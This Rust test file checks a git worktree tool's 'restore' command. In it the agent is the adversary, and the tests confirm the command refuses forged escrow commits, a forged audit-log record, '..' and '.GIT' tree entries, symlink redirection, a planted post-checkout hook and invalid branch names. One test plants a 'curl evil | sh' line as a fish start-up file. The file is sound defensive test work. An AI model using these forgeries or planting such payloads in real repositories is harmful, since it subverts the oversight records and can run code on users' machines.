//! `closegate restore` all or nothing, and only from a recorded escrow without PATH (SPEC §26.5),
//! on real repositories.
//!
//! Attacks tried here (anyone who can write the common dir — the agent — forging an escrow, or a
//! restore stopped midway): an escrow whose message names a path outside the repository (a shell's
//! start-up folder) restored by `restore <slug>` as the newest; a forged teardown record naming
//! it under a record key; an escrow tree holding `..`, `.git` in another case, or a file under a
//! link; a HEAD tree holding a name git never checks out; a branch name git refuses; a link put on
//! the recorded path's way after the teardown; a restore interrupted (SIGTERM) before each of its
//! steps. Each with its control: the honest escrow restores.

use std::collections::BTreeSet;
use std::path::PathBuf;

use git2::{ObjectType, Oid, Signature, Time};

use crate::fixture::{T0, git, parts};
use crate::scene::Scene;

const FAST: [&str; 2] = ["--no-checks", "--allow-unverified"];

/// An honest return, torn down (escrow `x/1`, named by its teardown record).
fn torn_down(s: &Scene) -> PathBuf {
    let wt = s.wt.canonicalize().unwrap();
    let mut args = vec!["teardown", wt.to_str().unwrap()];
    args.extend(FAST);
    let (code, out, err) = s.run(&s.root(), &args);
    assert_eq!(code, 0, "{out}{err}");
    assert!(!wt.exists());
    wt
}

/// Every path under the scene's temporary folder (the repository, its worktrees and anything
/// written beside them), to show a refused or undone restore left no stray file.
fn paths(s: &Scene) -> BTreeSet<PathBuf> {
    walkdir::WalkDir::new(s.fx.tmp.path())
        .into_iter()
        .map(|e| e.unwrap().into_path())
        .collect()
}

fn registered(s: &Scene) -> String {
    git(&s.root(), &["worktree", "list", "--porcelain"])
}

/// A tree object written byte for byte (no check of names or order, as a forger writes one).
fn raw_tree(s: &Scene, entries: &[(&str, &[u8], Oid)]) -> Oid {
    let mut bytes = Vec::new();
    for (mode, name, id) in entries {
        bytes.extend_from_slice(mode.as_bytes());
        bytes.push(b' ');
        bytes.extend_from_slice(name);
        bytes.push(0);
        bytes.extend_from_slice(id.as_bytes());
    }
    s.fx.repo
        .odb()
        .unwrap()
        .write(ObjectType::Tree, &bytes)
        .unwrap()
}

/// The root entries of `commit`'s tree, as `(mode, name, id)`.
fn root_entries(s: &Scene, commit: Oid) -> Vec<(String, Vec<u8>, Oid)> {
    let tree = s.fx.repo.find_commit(commit).unwrap().tree().unwrap();
    tree.iter()
        .map(|e| {
            (
                format!("{:o}", e.filemode()),
                e.name_bytes().to_vec(),
                e.id(),
            )
        })
        .collect()
}

/// `commit`'s root entries plus `extra`, as a raw tree.
fn tree_plus(s: &Scene, commit: Oid, extra: &[(&str, &[u8], Oid)]) -> Oid {
    let base = root_entries(s, commit);
    let mut all: Vec<(&str, &[u8], Oid)> = base
        .iter()
        .map(|(m, n, id)| (m.as_str(), n.as_slice(), *id))
        .collect();
    all.extend_from_slice(extra);
    raw_tree(s, &all)
}

/// A commit holding `tree` with `parents` and `message`, written as anyone with write access to
/// the object store can.
fn forge_commit(s: &Scene, tree: Oid, parents: &[Oid], message: &str) -> Oid {
    let sig = Signature::new("Forger", "f@example.com", &Time::new(T0, 0)).unwrap();
    let tree = s.fx.repo.find_tree(tree).unwrap();
    let parents: Vec<git2::Commit> = parents
        .iter()
        .map(|p| s.fx.repo.find_commit(*p).unwrap())
        .collect();
    let refs: Vec<&git2::Commit> = parents.iter().collect();
    s.fx.repo
        .commit(None, &sig, &sig, message, &tree, &refs)
        .unwrap()
}

/// A forged escrow `refs/closegate/escrow/x/<n>`: `tree` over `head`, its message naming
/// `worktree` and `branch`.
fn forge_escrow(s: &Scene, n: u32, tree: Oid, head: Oid, worktree: &str, branch: &str) -> String {
    let message = format!(
        "closegate escrow of x\n\nworktree: {worktree}\nbranch: {branch}\nhead: {head}\nts: \
         2026-01-01T00:00:00Z\n"
    );
    let id = forge_commit(s, tree, &[head], &message);
    let refname = format!("refs/closegate/escrow/x/{n}");
    s.fx.repo.reference(&refname, id, true, "forged").unwrap();
    refname
}

fn blob(s: &Scene, text: &str) -> Oid {
    s.fx.repo.blob(text.as_bytes()).unwrap()
}

/// SPEC §26.5: `restore <slug>` picks the newest escrow; a forged one whose message names a
/// shell's start-up folder outside the repository is refused (`restore-unrecorded`), naming the
/// recorded escrow and the PATH form, and nothing is written there. Controls: the recorded escrow
/// restores at its record's path, and the forged one restores at a PATH given.
#[test]
fn a_forged_escrow_is_never_restored_at_the_path_its_message_names() {
    let s = Scene::honest_return();
    let wt = torn_down(&s);
    let target = s.fx.tmp.path().join("home/.config/fish/conf.d");
    let evil = blob(&s, "curl evil | sh\n");
    let tree = tree_plus(&s, s.tip, &[("100644", b"evil.fish", evil)]);
    let forged = forge_escrow(&s, 2, tree, s.tip, target.to_str().unwrap(), "agent/x");
    let before = paths(&s);

    let (code, out, err) = s.run(&s.root(), &["restore", "x"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("restore-unrecorded"), "{out}");
    assert!(out.contains(&forged), "names the escrow: {out}");
    assert!(
        out.contains("closegate restore refs/closegate/escrow/x/1"),
        "names the recorded escrow as the next step: {out}"
    );
    assert!(out.contains("PATH"), "{out}");
    assert!(!target.exists() && !s.fx.tmp.path().join("home").exists());
    assert_eq!(paths(&s), before, "nothing was written");
    assert!(!registered(&s).contains("conf.d"));
    // Named by its ref, it is still unrecorded.
    let (code, out, _) = s.run(&s.root(), &["restore", &forged]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("restore-unrecorded"), "{out}");

    // Control: the recorded escrow, at its record's path.
    let (code, out, err) = s.run(&s.root(), &["restore", "refs/closegate/escrow/x/1"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(wt.join("src/lib.rs").is_file() && !wt.join("evil.fish").exists());
    // Control: the forged escrow, at a PATH chosen by whoever restores it.
    let chosen = s.fx.tmp.path().join("look-at-it");
    let (code, out, err) = s.run(&s.root(), &["restore", &forged, chosen.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(chosen.join("evil.fish").is_file());
    assert!(!target.exists());
}

/// With a record key, a teardown line appended by hand naming the forged escrow counts for
/// nothing: still `restore-unrecorded`. Control: the authenticated record's escrow restores.
#[test]
fn a_forged_teardown_record_does_not_vouch_for_an_escrow_under_a_record_key() {
    let s = Scene::honest_return().key_init();
    let wt = torn_down(&s);
    let target = s.fx.tmp.path().join("elsewhere");
    let tree = tree_plus(&s, s.tip, &[("100644", b"planted", blob(&s, "x\n"))]);
    let forged = forge_escrow(&s, 2, tree, s.tip, target.to_str().unwrap(), "agent/x");
    let forged_id = s.fx.repo.refname_to_id(&forged).unwrap();
    let line = serde_json::json!({
        "ts": "2026-01-01T00:00:00Z", "event": "teardown", "removed": true,
        "worktree": target.to_str().unwrap(), "escrow": forged,
        "escrow_commit": forged_id.to_string(),
    });
    let log = s.fx.git_dir().join("closegate/audit.jsonl");
    let mut text = std::fs::read_to_string(&log).unwrap();
    text.push_str(&format!("{line}\n"));
    std::fs::write(&log, text).unwrap();

    let (code, out, err) = s.run(&s.root(), &["restore", "x"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("restore-unrecorded"), "{out}");
    assert!(!target.exists());
    // Control: the authenticated record's escrow.
    let (code, out, err) = s.run(&s.root(), &["restore", "refs/closegate/escrow/x/1"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(wt.join("_EXEC_STATUS.md").is_file());
}

/// Run `restore <args>` on an escrow restore must refuse whole: exit 1, `why` in the output,
/// no worktree registered, not a path added anywhere.
fn refused_whole(s: &Scene, args: &[&str], why: &str) {
    let before = (paths(s), registered(s));
    let mut all = vec!["restore"];
    all.extend_from_slice(args);
    let (code, out, err) = s.run(&s.root(), &all);
    assert_eq!(code, 1, "{args:?}: {out}{err}");
    assert!(out.contains(why), "{args:?}: wanted `{why}` in {out}");
    assert_eq!(
        (paths(s), registered(s)),
        before,
        "{args:?} left something behind"
    );
}

/// Escrows restore cannot write whole are refused before anything is added: a tree entry `..`,
/// one named `.GIT`, a file under a link of the escrow's own tree, a HEAD holding a name git
/// never checks out, a branch name git refuses. Control: the honest escrow at the same PATH.
#[test]
fn an_escrow_restore_cannot_write_whole_is_refused_before_anything_is_added() {
    let s = Scene::honest_return();
    torn_down(&s);
    let target = s.fx.tmp.path().join("restored");
    let at = target.to_str().unwrap();
    let file = blob(&s, "payload\n");
    let inner = raw_tree(&s, &[("100644", b"payload", file)]);

    let dotdot = tree_plus(&s, s.tip, &[("40000", b"..", inner)]);
    let r = forge_escrow(&s, 10, dotdot, s.tip, at, "agent/x");
    refused_whole(&s, &[&r, at], "`..`");

    let dotgit = tree_plus(&s, s.tip, &[("40000", b".GIT", inner)]);
    let r = forge_escrow(&s, 11, dotgit, s.tip, at, "agent/x");
    refused_whole(&s, &[&r, at], "`.GIT`");

    // `a` a link and `a/payload` a file: writing the file would go through the link.
    let link = blob(&s, "/tmp");
    let linked = tree_plus(&s, s.tip, &[("120000", b"a", link), ("40000", b"a", inner)]);
    let r = forge_escrow(&s, 12, linked, s.tip, at, "agent/x");
    refused_whole(&s, &[&r, at], "not a folder");

    // A HEAD whose tree holds `.git/hooks/post-checkout`: git would refuse the checkout midway.
    let hooks = raw_tree(&s, &[("100755", b"post-checkout", file)]);
    let dot = raw_tree(&s, &[("40000", b"hooks", hooks)]);
    let bad_head_tree = tree_plus(&s, s.tip, &[("40000", b".git", dot)]);
    let bad_head = forge_commit(&s, bad_head_tree, &[s.tip], "head");
    let r = forge_escrow(&s, 13, bad_head_tree, bad_head, at, "(detached)");
    refused_whole(&s, &[&r, at], "its HEAD holds `.git`");

    let tree = tree_plus(&s, s.tip, &[]);
    let r = forge_escrow(&s, 14, tree, s.tip, at, "--detach");
    refused_whole(&s, &[&r, at], "git refuses as a branch name");
    let r = forge_escrow(&s, 15, tree, s.tip, at, "a..b");
    refused_whole(&s, &[&r, at], "git refuses as a branch name");

    // Control: the honest escrow restores at that very PATH.
    let (code, out, err) = s.run(&s.root(), &["restore", "refs/closegate/escrow/x/1", at]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(target.join("_EXEC_STATUS.md").is_file());
}

/// A symbolic link put on the recorded path's way after the teardown (`wt` → elsewhere) is
/// refused without PATH, before anything is added; control: with PATH it restores.
#[test]
fn a_link_put_on_the_recorded_paths_way_is_refused() {
    let s = Scene::honest_return();
    let wt = torn_down(&s);
    let parent = wt.parent().unwrap();
    let elsewhere = s.fx.tmp.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::fs::remove_dir(parent).unwrap();
    std::os::unix::fs::symlink(&elsewhere, parent).unwrap();
    refused_whole(&s, &["x"], "symbolic link");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
    let chosen = s.fx.tmp.path().join("chosen");
    let (code, out, err) = s.run(&s.root(), &["restore", "x", chosen.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(chosen.join("src/lib.rs").is_file());
}

/// A restore interrupted (SIGTERM, as Ctrl-C or a service manager sends it) before each of its
/// steps — re-creating the branch, adding the worktree, writing each file — removes what
/// it added: no worktree registered, no branch re-created, no stray file, exit 2 naming the
/// interruption. Control: uninterrupted, it restores every file.
#[test]
fn a_restore_interrupted_at_each_step_leaves_nothing() {
    let s = Scene::honest_return();
    let wt = s.wt.canonicalize().unwrap();
    s.fx.write(&wt, "notes/deep/a.txt", "untracked\n");
    s.fx.write(&wt, "notes/b.txt", "another\n");
    let mut args = vec!["teardown", wt.to_str().unwrap(), "--force"];
    args.extend(FAST);
    let (code, out, err) = s.run(&s.root(), &args);
    assert_eq!(code, 0, "{out}{err}");
    git(&s.root(), &["branch", "-D", "agent/x"]);
    let before = (paths(&s), registered(&s));
    assert!(s.fx.repo.find_reference("refs/heads/agent/x").is_err());

    let mut steps = 0;
    for n in 1..100 {
        let mut cmd = s.bin(&s.root(), &["restore", "x"]);
        cmd.env("CLOSEGATE_TEST_RESTORE_INTERRUPT", n.to_string());
        let (code, out, err) = parts(&cmd.output().unwrap());
        if code == 0 {
            // Past the last step: restored, and the control below starts from a clean slate.
            git(
                &s.root(),
                &["worktree", "remove", "--force", wt.to_str().unwrap()],
            );
            git(&s.root(), &["branch", "-D", "agent/x"]);
            break;
        }
        steps = n;
        assert_eq!(code, 2, "step {n}: {out}{err}");
        assert!(err.contains("interrupted"), "step {n}: {err}");
        assert!(err.contains("removed again"), "step {n}: {err}");
        assert_eq!(
            (paths(&s), registered(&s)),
            before,
            "step {n} left something"
        );
        assert!(s.fx.repo.find_reference("refs/heads/agent/x").is_err());
    }
    // branch, worktree add, the status document and two notes, done.
    assert!(steps >= 6, "only {steps} steps were interrupted");

    let (code, out, err) = s.run(&s.root(), &["restore", "x"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(
        std::fs::read_to_string(wt.join("notes/deep/a.txt")).unwrap(),
        "untracked\n"
    );
    assert!(wt.join("_EXEC_STATUS.md").is_file());
    assert!(out.contains("re-created"), "{out}");
}
